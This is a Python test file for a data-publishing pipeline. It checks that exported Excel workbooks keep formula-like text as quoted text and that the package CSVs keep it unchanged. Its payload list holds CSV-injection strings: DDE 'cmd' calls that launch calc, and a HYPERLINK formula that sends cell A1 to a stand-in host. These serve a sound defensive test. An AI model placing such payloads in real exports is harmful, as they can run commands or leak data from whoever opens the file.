"""Every workbook the site offers keeps text that a spreadsheet would read as a formula (starting
with = + - @, a tab or a carriage return) as text; amounts stay numbers, negative ones included.
The package CSVs are data and keep such text exactly as printed."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile

from conftest import ROOT, SAMPLE_ID, rehash

from pipeline.model import Field, Resource
from pipeline.package.write import csv_bytes
from pipeline.publish.site.downloads import sheet_titles
from pipeline.publish.spreadsheet import FORMULA_PREFIXES

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_package(packages):
    """The sample package with a payload in each of six rows' names, a field title and a glossary
    term that start like formulas, and a negative amount."""
    folder = packages / SAMPLE_ID
    shutil.copytree(ROOT / "datapackages" / SAMPLE_ID, folder)
    path = folder / "data" / "income.csv"
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fields, rows = reader.fieldnames, list(reader)
    for row, payload in zip(rows, PAYLOADS, strict=False):
        row["name"] = payload
    rows[0][fields[3]] = "-3.00"  # the first amount column
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    income = next(r for r in descriptor["resources"] if r["name"] == "income")
    income["schema"]["fields"][2]["title"] = "=1+1"
    (folder / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")
    rehash(folder)
    return folder


def test_every_workbook_the_site_offers_keeps_formula_like_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from pipeline.publish.site import packages_to_docs

    hostile_package(tmp_path / "packages")
    packages_to_docs(tmp_path / "packages", tmp_path / "docs", sources=ROOT / "sources")
    books = sorted((tmp_path / "docs").rglob("*.xlsx"))
    assert [b.name for b in books] == [f"{SAMPLE_ID}.xlsx"]
    for book in books:
        with zipfile.ZipFile(book) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
        wb = load_workbook(book)
        prefixed = [c for ws in wb for row in ws.iter_rows() for c in row
                    if isinstance(c.value, str) and c.value.startswith((*FORMULA_PREFIXES, "\n"))]
        # six names, the field title; a carriage return is read back from XML as a line feed
        assert len(prefixed) >= 7
        assert all(c.data_type == "s" and c.quotePrefix for c in prefixed), [
            (c.coordinate, c.value, c.data_type) for c in prefixed if c.data_type != "s" or not c.quotePrefix]
        descriptor = json.loads((tmp_path / "packages" / SAMPLE_ID / "datapackage.json").read_text(encoding="utf-8"))
        income = wb[sheet_titles(descriptor["resources"])["income"]]
        assert income.cell(row=1, column=3).value == "=1+1"  # the title row
        assert [income.cell(row=r, column=3).value for r in range(3, 7)] == PAYLOADS[:4]
        amount = income.cell(row=3, column=4)
        assert (amount.value, amount.data_type) == (-3, "n")  # a negative amount is a number


def test_package_csv_keeps_formula_like_text_as_printed():
    resource = Resource(name="t", title="t", fields=[Field("name", "string", "名称")],
                        rows=[{"name": p} for p in PAYLOADS], description="", primary_key=[])
    text = csv_bytes(resource).decode("utf-8")
    assert [r["name"] for r in csv.DictReader(io.StringIO(text, newline=""))] == PAYLOADS
